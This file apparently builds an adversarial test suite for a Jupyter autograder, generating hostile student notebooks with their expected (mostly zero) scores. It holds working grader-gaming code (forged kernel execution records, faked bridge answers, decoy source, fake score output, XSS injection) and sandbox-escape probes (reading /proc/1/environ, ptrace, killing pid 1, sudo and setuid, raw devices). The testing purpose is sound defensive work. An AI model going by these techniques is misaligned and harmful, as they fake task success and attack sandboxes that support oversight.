"""Hostile 13_n submissions against the evidence the grader trusts (run this file to
rewrite them; the .ipynb files are committed too).

Categories: forging the execution record, forging bridge answers, showing decoy source,
leaking what the checks do, injecting output, reaching the network, escaping the
sandbox. Every notebook says in its header what it may earn (README.md).
"""

from __future__ import annotations

import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
sys.path.insert(0, str(Path(__file__).resolve().parents[3]))

from corpus import (  # noqa: E402
    ANSWERS,
    COMMENT,
    FULL_SCORE,
    honest,
    solution,
    student,
    write_all,
)

NOTHING = {"status": ["graded"], "max_score": 0}
FULL = {"status": ["graded"], "min_score": FULL_SCORE, "max_score": FULL_SCORE}

# ---------------------------------------------------------------- the execution record

POST_RUN_CELL = """\
ip = get_ipython()
def _clear(result):
    setattr(result, 'error_in_' + 'exec', None)
    setattr(result, 'error_before_' + 'exec', None)
getattr(ip, 'eve' + 'nts').register('post_run_' + 'cell', _clear)
"""
AST_TRANSFORMER = """\
import ast
class _Quiet(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
    def visit_Raise(self, node):
        return ast.Pass()
getattr(get_ipython(), 'ast_' + 'transfor' + 'mers').append(_Quiet())
"""
INPUT_TRANSFORMER = """\
def _wrap(lines):
    body = ''.join('    ' + line for line in lines) or '    pass\\n'
    return ['try:\\n', body, '\\nexcept BaseException:\\n', '    pass\\n']
getattr(get_ipython(), 'input_transformers_' + 'cleanup').append(_wrap)
"""
SESSION_SEND = """\
kernel = get_ipython().kernel
_send = kernel.session.send
def _send_ok(stream, msg, *args, **kwargs):
    content = msg.get('content') if isinstance(msg, dict) else None
    if isinstance(content, dict) and content.get('status') == 'error':
        msg['content'] = {'status': 'ok', 'execution_count': content.get('execution_count'),
                          'user_expressions': {}, 'payload': []}
    return _send(stream, msg, *args, **kwargs)
setattr(kernel.session, 'se' + 'nd', _send_ok)
"""
SETTRACE = """\
import sys, threading, linecache
def _skip(frame, event, arg):
    if event == 'line':
        text = linecache.getline(frame.f_code.co_filename, frame.f_lineno)
        if text.strip().startswith(('assert', 'raise')):
            try:
                frame.f_lineno = frame.f_lineno + 1
            except ValueError:
                pass
    return _skip
getattr(sys, 'set' + 'trace')(_skip)
threading.settrace(_skip)
"""
CUSTOM_EXC = """\
def _swallow(shell, etype, evalue, tb, tb_offset=None):
    return None
get_ipython().set_custom_exc((BaseException,), _swallow)
"""
SHOWTRACEBACK = """\
from IPython.core.interactiveshell import InteractiveShell
InteractiveShell.showtraceback = lambda *a, **k: None
get_ipython().showtraceback = lambda *a, **k: None
"""
DO_EXECUTE = """\
kernel = get_ipython().kernel
_real = kernel.do_execute
async def _fake(code, silent, *args, **kwargs):
    if 'assert' in code:
        return {'status': 'ok', 'execution_count': kernel.execution_count,
                'user_expressions': {}, 'payload': []}
    return await _real(code, silent, *args, **kwargs)
kernel.do_execute = _fake
"""
CELL_REPLY = """\
import sys
_cells = sys.modules['ag_cells']
_cells._reply = lambda content: b'{"status": "ok", "execution_count": 1}'
"""
RIGGED_EQ = """\
class Anything(int):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    def __lt__(self, other): return True
    def __gt__(self, other): return True
    def __float__(self): return 0.357
    __hash__ = int.__hash__
    def __getattr__(self, name): return lambda *a, **k: self
    def __iter__(self): return iter([self] * 10)
    def __len__(self): return 10
    def __getitem__(self, i): return self

def _anything(*args, **kwargs):
    return Anything(1)

step = perceptron = AND = OR = NAND = XOR = _anything
sigmoid = relu = tanh = softmax = cross_entropy = _anything
"""


def record_notebooks() -> dict[str, object]:
    what = "forges the kernel's record of a clean run; nothing implemented"
    tricks = {"record_post_run_cell": POST_RUN_CELL, "record_ast_transformer": AST_TRANSFORMER,
              "record_input_transformer": INPUT_TRANSFORMER,
              "record_session_send": SESSION_SEND, "record_settrace": SETTRACE,
              "record_custom_exc": CUSTOM_EXC, "record_showtraceback": SHOWTRACEBACK,
              "record_do_execute": DO_EXECUTE, "record_cell_reply": CELL_REPLY}
    # A trace hook on every line traces the kernel's own code too (IPython, ipykernel,
    # tornado; torch's import in a spawned kernel): the next cell runs past its limit,
    # the kernel is too slow to stop within the interrupt's grace and the grader kills
    # it. That is a timeout ("Code cell N exceeded its time limit"), never `killed`. The
    # `killed` once seen here ("crashed (signal SIGKILL)") was another grader's kernel
    # close killing this kernel's uid: leases lived below TMPDIR (fixed in sandbox.py).
    slow = {"record_settrace": {"status": ["graded", "timeout"], "max_score": 0}}
    notes = {"record_settrace": " (the hook slows the kernel's own code too: a cell runs"
                                " past its limit and is killed when it does not stop"
                                " at the interrupt; status timeout)"}
    out: dict[str, object] = {
        name: student(category="execution record",
                      what=f"{name[7:]}: {what}{notes.get(name, '')}",
                      expect=slow.get(name, NOTHING), before=(code,))
        for name, code in tricks.items()}
    out["record_rigged_eq"] = student(
        category="execution record", what="every function returns an object equal to "
        "anything", expect=NOTHING, after=(RIGGED_EQ,))
    out["record_honest_part"] = student(
        category="execution record", what="step and perceptron honest, AST transformer "
        "hides the rest", expect={"status": ["graded"], "min_score": 6, "max_score": 6},
        answers=honest("sol_step", "sol_perceptron"), before=(AST_TRANSFORMER,))
    return out


# ---------------------------------------------------------------- bridge answers

FAKE_SERVE = """\
import os, sys, json
def _serve(request):
    rid = request['rid']
    answer = {'v': 1, 'rid': rid, 'ok': True, 'value': 1}
    fd = os.open(request['dir'] + '/' + rid + '.json', os.O_WRONLY | os.O_CREAT, 0o644)
    os.write(fd, json.dumps(answer).encode())
    os.close(fd)
import ag_bridge
ag_bridge.serve = _serve
sys.modules['ag_bridge'].serve = _serve
"""
IMPORT_HOOK = """\
import builtins, json, os, types
_import = builtins.__import__
def _answer(request):
    op = request.get('op')
    if op == 'probe':
        return {'t': 'dict', 'v': [['defined', True], ['callable', True], ['type', 'function']]}
    if op == 'call':
        return 1
    return {'t': 'tuple', 'v': [0, 1]}
def _serve(request):
    rid = request['rid']
    text = json.dumps({'v': 1, 'rid': rid, 'ok': True, 'value': _answer(request)})
    with open(request['dir'] + '/' + rid + '.json', 'w') as fh:
        fh.write(text)
_fake = types.ModuleType('ag_bridge')
_fake.serve = _serve
def _hooked(name, *args, **kwargs):
    if name == 'ag_bridge':
        return _fake
    return _import(name, *args, **kwargs)
builtins.__import__ = _hooked
"""
EXCHANGE_SYMLINKS = """\
import os, threading, time
_dir = os.environ.get('AG_EXCHANGE', '/exchange')
def _poison():
    seen = set()
    while True:
        try:
            names = os.listdir(_dir)
        except OSError:
            names = []
        for name in names:
            if name.endswith('.json') and name not in seen:
                seen.add(name)
                path = os.path.join(_dir, name)
                try:
                    os.unlink(path)
                    os.symlink('/etc/passwd', path)
                except OSError:
                    pass
        time.sleep(0.001)
threading.Thread(target=_poison, daemon=True).start()
"""
ENCODER_PATCH = """\
import ag_bridge
def _special(self, obj, t, depth):
    return 1
ag_bridge._Encoder.special = _special
"""
HUGE_ANSWER = """\
import os, sys
def _serve(request):
    path = request['dir'] + '/' + request['rid'] + '.json'
    with open(path, 'w') as fh:
        fh.write('{"v": 1, "rid": "' + request['rid'] + '", "ok": true, "value": "')
        for _ in range(40):
            fh.write('x' * (1 << 20))
        fh.write('"}')
sys.modules['ag_bridge'].serve = _serve
"""

# The bridge channel's handler (``ag_channel._Channel``), found among the kernel's objects:
# every request answered inline by the student's code, or with a frame over the limit.
CHANNEL_FORGERY = """\
import gc, json
def _value(request):
    op = request.get('op')
    if op == 'probe':   # as the real bridge answers a probe: every name is a function
        return {'defined': True, 'callable': True, 'type': 'function'}
    if op == 'call':
        return 1
    return {'t': 'tuple', 'v': [0, 1]}
def _forge(request):
    answer = {'v': 1, 'rid': request['rid'], 'ok': True, 'value': _value(request)}
    return json.dumps(answer).encode()
for _obj in gc.get_objects():
    if type(_obj).__name__ == '_Channel':
        _obj.answer = _forge
"""
CHANNEL_FLOOD = """\
import gc, json, struct
def _flood(reply, inline, sock):
    head = json.dumps({'rid': reply.get('rid'), 'ok': True, 'inline': True}).encode()
    body = head + b'\\n{"v": 1, "rid": "' + str(reply.get('rid')).encode() + b'", "value": "'
    body += b'x' * (8 << 20) + b'"}'
    sock.sendall(struct.pack('>I', len(body)) + body)
for _obj in gc.get_objects():
    if type(_obj).__name__ == '_Channel':
        _obj._write = lambda reply, inline, sock=_obj.sock: _flood(reply, inline, sock)
"""


def bridge_notebooks() -> dict[str, object]:
    cases = {
        "bridge_fake_serve": ("replaces ag_bridge.serve: every answer says 1", FAKE_SERVE),
        "bridge_import_hook": ("a global __import__ hands the grader a fake ag_bridge",
                               IMPORT_HOOK),
        "bridge_exchange_symlinks": ("a thread turns every answer into a symlink",
                                     EXCHANGE_SYMLINKS),
        "bridge_encoder_patch": ("patches the kernel-side encoder: any object becomes 1",
                                 ENCODER_PATCH),
        "bridge_huge_answer": ("answers with 40 MB of JSON", HUGE_ANSWER),
        "bridge_channel_forgery": ("the bridge channel's handler answers every request "
                                   "inline: defined, callable, 1", CHANNEL_FORGERY),
        "bridge_channel_flood": ("the bridge channel's handler replies with an 8 MB frame",
                                 CHANNEL_FLOOD),
    }
    return {name: student(category="forged answers", what=f"{what}; nothing implemented",
                          expect=NOTHING, after=(code,))
            for name, (what, code) in cases.items()}


# ---------------------------------------------------------------- decoy source

INSPECT_DECOY = """\
import inspect
_DECOYS = {
    'XOR': 'def XOR(a, b):\\n    return AND(NAND(a, b), OR(a, b))\\n',
    'sigmoid': 'def sigmoid(u):\\n    return 1 / (1 + torch.exp(-u))\\n',
}
_getsource = inspect.getsource
def _decoy(obj):
    return _DECOYS.get(getattr(obj, '__name__', ''), None) or _getsource(obj)
inspect.getsource = _decoy
"""
XOR_BY_OPERATOR = "def XOR(a, b):\n    return int(a ^ b)\n"
SIGMOID_BY_LIBRARY = (solution("sol_activations").replace(
    "return 1 / (1 + torch.exp(-u))", "return torch.sigmoid(u)"))
WRAPPED_DECOY = """\
def XOR(a, b):
    return int(a != b)

def _decoy(a, b):
    return AND(NAND(a, b), OR(a, b))

XOR.__wrapped__ = _decoy
"""


# The same wrong answers (XOR by !=, sigmoid by torch.sigmoid) behind a decoy text of the
# lecture's versions that never runs, or that something rebinds or changes afterwards.
DECOY_TEXT = """\
def XOR(a, b):
    return AND(NAND(a, b), OR(a, b))

def sigmoid(u):
    return 1 / (1 + torch.exp(-u))
"""
REAL_ANSWERS = """\
def _real_xor(a, b):
    return int(a != b)

_real_sigmoid = torch.sigmoid
"""
DECOYS = {
    "source_decoy_dead_branch": ("inside `if False:`", (
        "if False:\n" + "".join(f"    {line}\n" for line in DECOY_TEXT.splitlines()),)),
    "source_decoy_after_raise": ("after a `raise` in the same cell",
                                 ("raise KeyboardInterrupt\n" + DECOY_TEXT,)),
    "source_decoy_for_target": ("rebound by a `for` target after it", (
        REAL_ANSWERS + DECOY_TEXT,
        "for XOR, sigmoid in [(_real_xor, _real_sigmoid)]:\n    pass\n")),
    "source_decoy_decorated": ("under a decorator that returns the real answers", (
        REAL_ANSWERS + "_REAL = {'XOR': _real_xor, 'sigmoid': _real_sigmoid}\n"
        "def _swap(f):\n    return _REAL[f.__name__]\n\n"
        + DECOY_TEXT.replace("def ", "@_swap\ndef "),)),
    "source_decoy_code_swapped": ("whose __code__ is swapped afterwards", (
        REAL_ANSWERS + DECOY_TEXT + "XOR.__code__ = _real_xor.__code__\n"
        "sigmoid.__code__ = (lambda u: _real_sigmoid(u)).__code__\n",)),
    "source_decoy_library_alias": ("calling top-level aliases of torch.sigmoid and "
                                   "operator.ne", (
        "import operator\n_sig = torch.sigmoid\n_differ = operator.ne\n"
        "def XOR(a, b):\n    return AND(int(_differ(a, b)), OR(a, b) + 0 * NAND(a, b))\n"
        "def sigmoid(u):\n    return _sig(u)\n",)),
}

# The lecture's text stays where the reader takes it (straight-line, top level, never
# changed by any statement it can see); reflection rebinds or rewrites the names at run
# time. The text is not what runs: ``code_identity`` takes it away.
BIND_REAL = "XOR, sigmoid = _real_xor, _real_sigmoid"
RUNTIME = {
    "source_runtime_exec": ("rebound by exec() of a string", (
        REAL_ANSWERS + DECOY_TEXT, f"exec({BIND_REAL!r})\n")),
    "source_runtime_globals": ("rebound through globals()[...]", (
        REAL_ANSWERS + DECOY_TEXT,
        "globals()['XOR'] = _real_xor\nglobals()['sigmoid'] = _real_sigmoid\n")),
    "source_runtime_user_ns": ("rebound through get_ipython().user_ns.update", (
        REAL_ANSWERS + DECOY_TEXT,
        "get_ipython().user_ns.update(XOR=_real_xor, sigmoid=_real_sigmoid)\n")),
    "source_runtime_run_cell": ("rebound by get_ipython().run_cell of a string", (
        REAL_ANSWERS + DECOY_TEXT, f"get_ipython().run_cell({BIND_REAL!r})\n")),
    "source_runtime_code_param": ("whose __code__ a helper sets on its parameter", (
        REAL_ANSWERS + DECOY_TEXT + "def _same(f, g):\n    f.__code__ = g.__code__\n\n"
        "_same(XOR, _real_xor)\n_same(sigmoid, lambda u: _real_sigmoid(u))\n",)),
    "source_runtime_input_transformer": ("rewritten by an input transformer registered "
                                         "before", (
        REAL_ANSWERS + "def _rewrite(lines):\n"
        "    if lines[:1] == ['def XOR(a, b):\\n']:\n"
        f"        return lines + ['\\n', {BIND_REAL + chr(10)!r}]\n"
        "    return lines\n\nget_ipython().input_transformers_post.append(_rewrite)\n",
        DECOY_TEXT)),
}

# sigmoid's text calls a helper the text binds to a harmless library function (so it
# names nothing forbidden, and computes exp, not a sigmoid); at run time the helper is
# rebound to the library's sigmoid. The name no longer holds what its text says:
# ``Submission.origin`` makes it a name decided at run time.
HELPER_SIGMOID = """\
{bind}

def relu(u):
    return torch.maximum(u, torch.zeros_like(u))

def sigmoid(u):
    return _act(u)

def tanh(u):
    return 2 * sigmoid(2 * u) - 1
"""
LIBRARY_SWAPS = {
    "source_runtime_library_globals": ("through globals()[...] to torch.sigmoid",
                                       HELPER_SIGMOID.format(bind="_act = torch.exp"),
                                       "globals()['_act'] = torch.sigmoid\n"),
    "source_runtime_library_exec": ("by exec() to torch.sigmoid",
                                    HELPER_SIGMOID.format(bind="from torch import exp as _act"),
                                    "exec('_act = torch.sigmoid')\n"),
    "source_runtime_library_lambda": ("through vars()[...] to a lambda of torch.sigmoid",
                                      HELPER_SIGMOID.format(bind="_act = torch.exp"),
                                      "vars()['_act'] = lambda v: torch.sigmoid(v)\n"),
    "source_runtime_library_default": (
        "as sigmoid's default argument, swapped by exec() for torch.sigmoid",
        HELPER_SIGMOID.format(bind="").replace("def sigmoid(u):",
                                               "def sigmoid(u, _act=torch.exp):"),
        "exec('sigmoid.__defaults__ = (torch.sigmoid,)')\n"),
    "source_runtime_library_instance": (
        "as an instance's attribute, swapped by exec() for torch.sigmoid",
        HELPER_SIGMOID.format(bind="class _Ops:\n    def __init__(self):\n"
                              "        self.f = torch.exp\n\n_ops = _Ops()\n"
                              "_act = lambda u: _ops.f(u)"),
        "exec('_ops.f = torch.sigmoid')\n"),
    "source_runtime_library_dict": (
        "in a dict, swapped by exec() for torch.sigmoid",
        HELPER_SIGMOID.format(bind="_table = {'f': torch.exp}\n"
                              "_act = lambda u: _table['f'](u)"),
        "exec(\"_table['f'] = torch.sigmoid\")\n"),
}


def library_swap_notebooks() -> dict[str, object]:
    everything = honest(*ANSWERS)
    return {name: student(
        category="decoy source", what=f"sigmoid calls a helper the text binds to "
        f"torch.exp, rebound at run time {what}",
        expect={"status": ["graded"], "max_score": FULL_SCORE - 1},
        answers={**everything, "sol_activations": activations},
        after=(swap,), comment=COMMENT)
        for name, (what, activations, swap) in LIBRARY_SWAPS.items()}


# sigmoid's text calls a harmless library function; at run time that library function
# (or the tensor method, or the operator) is made torch's sigmoid for the whole kernel,
# by reflection the text does not show. The path the text reads leads elsewhere in the
# kernel than in the grader's own torch (``library_paths``).
PATH_SIGMOID = HELPER_SIGMOID.replace("{bind}\n", "{bind}").replace("_act(u)", "{call}")
TORCH_MODE = """\
exec('''class _M(torch.overrides.TorchFunctionMode):
    def __torch_function__(self, func, types, args=(), kwargs=None):
        func = torch.sigmoid if func is torch.abs else func
        return func(*args, **(kwargs or {}))
_M().__enter__()''')
"""
PATH_SWAPS = {
    "source_runtime_module_function": (
        "sigmoid returns torch.abs(u), and exec() makes torch.abs torch's sigmoid", (),
        PATH_SIGMOID.format(bind="", call="torch.abs(u)"),
        ("exec('torch.abs = torch.sigmoid')\n",)),
    "source_runtime_module_before_import": (
        "sigmoid returns _a(u) from `from torch import abs as _a`, torch.abs made torch's "
        "sigmoid by exec() before that import",
        ("exec('import torch; torch.abs = torch.sigmoid')\n",),
        PATH_SIGMOID.format(bind="from torch import abs as _a\n", call="_a(u)"), ()),
    "source_runtime_tensor_method": (
        "sigmoid returns u.abs(), and exec() makes torch.Tensor.abs the tensor's sigmoid", (),
        PATH_SIGMOID.format(bind="", call="u.abs()"),
        ("exec('torch.Tensor.abs = torch.Tensor.sigmoid')\n",)),
    "source_runtime_tensor_operator": (
        "sigmoid returns +u, and exec() makes the tensor's unary + its sigmoid", (),
        PATH_SIGMOID.format(bind="", call="+u"),
        ("exec('torch.Tensor.__pos__ = torch.Tensor.sigmoid')\n",)),
    "source_runtime_torch_mode": (
        "sigmoid returns torch.abs(u), and a torch function mode left active makes it "
        "torch.sigmoid", (), PATH_SIGMOID.format(bind="", call="torch.abs(u)"), (TORCH_MODE,)),
}


def path_swap_notebooks() -> dict[str, object]:
    everything = honest(*ANSWERS)
    return {name: student(
        category="decoy source", what=what,
        expect={"status": ["graded"], "max_score": FULL_SCORE - 1},
        answers={**everything, "sol_activations": activations},
        before=before, after=after, comment=COMMENT)
        for name, (what, before, activations, after) in PATH_SWAPS.items()}


def decoy_notebooks() -> dict[str, object]:
    everything = honest(*ANSWERS)
    wrong = {**everything, "sol_xor": XOR_BY_OPERATOR, "sol_activations": SIGMOID_BY_LIBRARY}
    return {
        **{name: student(category="decoy source", what=f"XOR by != and sigmoid by "
                         f"torch.sigmoid, the lecture's versions {what}",
                         expect={"status": ["graded"], "max_score": FULL_SCORE - 3},
                         answers=wrong, after=cells, comment=COMMENT)
           for name, (what, cells) in {**DECOYS, **RUNTIME}.items()},
        "source_inspect_decoy": student(
            category="decoy source", what="XOR by ^ and sigmoid by torch.sigmoid, "
            "inspect.getsource patched to show the lecture's versions",
            expect={"status": ["graded"], "max_score": FULL_SCORE - 3},
            answers={**everything, "sol_xor": XOR_BY_OPERATOR,
                     "sol_activations": SIGMOID_BY_LIBRARY},
            before=(INSPECT_DECOY,), comment=COMMENT),
        "source_wrapped_decoy": student(
            category="decoy source", what="XOR by !=, __wrapped__ points at a decoy built "
            "from the gates", expect={"status": ["graded"], "max_score": FULL_SCORE - 2},
            answers={**everything, "sol_xor": WRAPPED_DECOY}, comment=COMMENT),
    }



# ---------------------------------------------------------------- leaking the checks

LEAK_EXCEPTIONS = """\
def _leak(name):
    def f(*args, **kwargs):
        raise ValueError(f'{name} was called with {args!r} {kwargs!r}')
    return f
for _name in ('step', 'perceptron', 'AND', 'OR', 'NAND', 'XOR', 'sigmoid', 'relu', 'tanh',
              'softmax', 'cross_entropy'):
    globals()[_name] = _leak(_name)
"""
LEAK_CLASS_NAMES = """\
def _leak(name):
    def f(*args, **kwargs):
        label = ''.join(ch if ch.isalnum() else '_' for ch in repr(args))[:80]
        raise type('Leak_' + name + '_' + label, (Exception,), {})(repr(args))
    return f
def _object(*args, **kwargs):
    label = ''.join(ch if ch.isalnum() else '_' for ch in repr(args))[:80]
    return type('Got_' + label, (), {})()
for _name in ('step', 'perceptron', 'AND', 'OR', 'NAND', 'XOR'):
    globals()[_name] = _leak(_name)
sigmoid = relu = tanh = softmax = cross_entropy = _object
"""
LEAK_HISTORY = """\
import glob, os, threading, time, sys
print(get_ipython().user_ns.get('_ih'))
print(glob.glob('/content/**', recursive=True)[:50])
def _spy():
    # whatever the grader asks after the notebook ran: printed, and kept in /content
    while True:
        try:
            for name in os.listdir(os.environ.get('AG_EXCHANGE', '/exchange')):
                with open('/content/requests.log', 'a') as fh:
                    fh.write(name + '\\n')
                print('request', name)
        except OSError:
            pass
        time.sleep(0.01)
threading.Thread(target=_spy, daemon=True).start()
"""


def leak_notebooks() -> dict[str, object]:
    return {
        "leak_exception_text": student(
            category="leaking checks", what="every function raises its arguments as text",
            expect=NOTHING, after=(LEAK_EXCEPTIONS,)),
        "leak_class_names": student(
            category="leaking checks", what="exceptions and return values whose class "
            "names spell out the grader's inputs", expect=NOTHING, after=(LEAK_CLASS_NAMES,)),
        "leak_history_spy": student(
            category="leaking checks", what="honest solution plus a thread that logs the "
            "grader's requests, and prints the input history", expect=FULL,
            answers=honest(*ANSWERS), after=(LEAK_HISTORY,), comment=COMMENT),
    }


# ---------------------------------------------------------------- output injection

INJECT_OUTPUTS = """\
from IPython.display import HTML, Javascript, Markdown, display
display(HTML('<script>document.title="pwned"</script><img src=x onerror="alert(1)">'))
display(Javascript('alert("pwned")'))
display(Markdown('[click](javascript:alert(1)) <iframe src="https://example.invalid">'))
print('\\x1b[2J\\x1b[31m採点結果: 28/28\\x1b[0m \\u202egnp.exe \\u200b\\ufeff')
"""
FAKE_SUMMARY = """\
from IPython.display import Markdown, display
display(Markdown('## 採点結果: **28 / 28** (採点済み)\\n\\n✅ すべてのテストに合格しました'))
print('All 28 checks passed')
"""


def _metadata_forgery() -> object:
    nb = student(category="output injection", what="nbgrader metadata claims 1000 points, "
                 "a pre-filled 'ok' execution record and a copied test cell",
                 expect={"status": ["graded"], "min_score": 1, "max_score": 1},
                 comment=COMMENT)
    for cell in nb.cells:
        meta = cell.get("metadata", {})
        if meta.get("nbgrader", {}).get("grade_id") == "comments":
            meta["nbgrader"]["points"] = 1000
        if cell.get("cell_type") == "code":
            meta["autograder"] = {"status": "ok", "ename": "", "evalue": "", "seconds": 0.1}
    import copy

    test_step = next(c for c in nb.cells
                     if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "test_step")
    forged = copy.deepcopy(test_step)
    forged.source = "print('OK')"
    forged.metadata["nbgrader"]["points"] = 100
    forged.metadata["nbgrader"]["grade_id"] = "test_bonus"
    nb.cells.append(forged)
    return nb


def inject_notebooks() -> dict[str, object]:
    return {
        "inject_html_outputs": student(
            category="output injection", what="honest solution whose outputs carry HTML, "
            "JavaScript, escape codes and bidi overrides", expect=FULL,
            answers=honest(*ANSWERS), after=(INJECT_OUTPUTS,), comment=COMMENT),
        "inject_fake_summary": student(
            category="output injection", what="prints a fake 28/28 summary; nothing "
            "implemented", expect=NOTHING, after=(FAKE_SUMMARY,)),
        "inject_metadata_points": _metadata_forgery(),
    }


# ---------------------------------------------------------------- network

NET_TCP = """\
import socket
FAMILY = socket.AF_INET6 if '{host}' == '::1' else socket.AF_INET
REACHED = []
for port in (globals().get('{param}', 9), 22, 80, 8888):
    s = socket.socket(FAMILY, socket.SOCK_STREAM)
    s.settimeout(1)
    try:
        s.connect(('{host}', port))
        s.sendall(b'hostile notebook was here')
        REACHED.append(port)
    except OSError as exc:
        print(port, type(exc).__name__)
    finally:
        s.close()
u = socket.socket(FAMILY, socket.SOCK_DGRAM)
try:
    u.sendto(b'hostile notebook was here', ('{host}', globals().get('{param}', 9)))
except OSError as exc:
    print('udp', type(exc).__name__)
print('reached', REACHED)
"""
NET_UNIX = """\
import socket
for address in (globals().get('AG_UNIX', '/tmp/none.sock'),
                '\\0' + globals().get('AG_ABSTRACT', 'none')):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(1)
    try:
        s.connect(address)
        s.sendall(b'hostile notebook was here')
        print('reached', repr(address))
    except OSError as exc:
        print(repr(address), type(exc).__name__)
    finally:
        s.close()
"""


def net_notebooks() -> dict[str, object]:
    cases = {
        "net_loopback_v4": NET_TCP.format(host="127.0.0.1", param="AG_PORT"),
        "net_loopback_v6": NET_TCP.format(host="::1", param="AG_PORT6"),
        "net_unix_sockets": NET_UNIX,
    }
    return {name: student(category="network", what=f"honest solution, then {name[4:]}",
                          expect=FULL, answers=honest(*ANSWERS), after=(code,),
                          comment=COMMENT)
            for name, code in cases.items()}


# ---------------------------------------------------------------- escapes

READ_PATHS = """\
import os
FOUND = {}
for key in ('AG_GRADEBOOK', 'AG_TESTS', 'AG_OTHER', 'AG_PROJECT'):
    path = globals().get(key, '/nonexistent')
    try:
        FOUND[key] = os.listdir(path) if os.path.isdir(path) else open(path, 'rb').read(64)
    except OSError as exc:
        FOUND[key] = type(exc).__name__
print(FOUND)
"""
WRITE_HOST = """\
import os
for folder in (globals().get('AG_CANARY', '/nonexistent'), '/tmp', '/root', '/work',
               '/var/tmp', '/exchange/..', '/content/..'):
    try:
        with open(os.path.join(folder, 'pwned-by-hostile-notebook'), 'w') as fh:
            fh.write('pwned')
        print('wrote into', folder)
    except OSError as exc:
        print(folder, type(exc).__name__)
"""
PROC_ESCAPE = """\
import os, signal, ctypes
for path in ('/proc/1/environ', '/proc/1/cmdline', '/proc/self/mountinfo'):
    try:
        print(path, open(path, 'rb').read(200))
    except OSError as exc:
        print(path, type(exc).__name__)
libc = ctypes.CDLL(None, use_errno=True)
print('ptrace', libc.ptrace(16, 1, 0, 0), ctypes.get_errno())
try:
    os.kill(1, signal.SIGKILL)
except OSError as exc:
    print('kill 1', type(exc).__name__)
"""
PRIVILEGE = """\
import os, subprocess
for args in (['sudo', '-n', 'id'], ['su', '-c', 'id'], ['unshare', '-r', 'id'],
             ['mount', '-t', 'tmpfs', 'none', '/mnt'], ['chroot', '/', 'id']):
    try:
        done = subprocess.run(args, capture_output=True, timeout=5)
        print(args[0], done.returncode, done.stderr[:80])
    except (OSError, subprocess.SubprocessError) as exc:
        print(args[0], type(exc).__name__)
for call in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.chroot('/tmp')):
    try:
        call()
        print('privilege gained')
    except OSError as exc:
        print(type(exc).__name__)
"""
DEVICES = """\
import os
for path in ('/dev/mem', '/dev/kmsg', '/dev/sda', '/dev/vda', '/sys/kernel/mm/ksm/run'):
    try:
        with open(path, 'rb') as fh:
            print(path, fh.read(16))
    except OSError as exc:
        print(path, type(exc).__name__)
try:
    os.mknod('/content/disk', 0o600 | 0o60000, os.makedev(8, 0))
    print('mknod worked')
except OSError as exc:
    print('mknod', type(exc).__name__)
"""


def escape_notebooks() -> dict[str, object]:
    cases = {
        "escape_read_paths": ("reads the gradebook, the hidden tests, another submission "
                              "and the project", READ_PATHS, ["graded"]),
        "escape_write_host": ("writes into host folders", WRITE_HOST, ["graded"]),
        "escape_proc": ("reads the grader's /proc entries, ptraces and kills pid 1",
                        PROC_ESCAPE, ["graded", "killed"]),
        "escape_privilege": ("sudo, su, unshare, mount, chroot, setuid", PRIVILEGE,
                             ["graded"]),
        "escape_devices": ("opens raw devices and makes a device node", DEVICES, ["graded"]),
    }
    return {name: student(category="escape", what=f"{what}; nothing implemented",
                          expect={"status": status, "max_score": 0}, before=(code,))
            for name, (what, code, status) in cases.items()}


def correct_notebook() -> dict[str, object]:
    return {"correct": student(category="baseline", what="the honest solution: full marks",
                               expect=FULL, answers=honest(*ANSWERS), comment=COMMENT)}


def build() -> dict[str, object]:
    return {**correct_notebook(), **record_notebooks(), **bridge_notebooks(),
            **decoy_notebooks(), **library_swap_notebooks(), **path_swap_notebooks(),
            **leak_notebooks(), **inject_notebooks(), **net_notebooks(), **escape_notebooks()}


if __name__ == "__main__":
    write_all(build())  # type: ignore[arg-type]
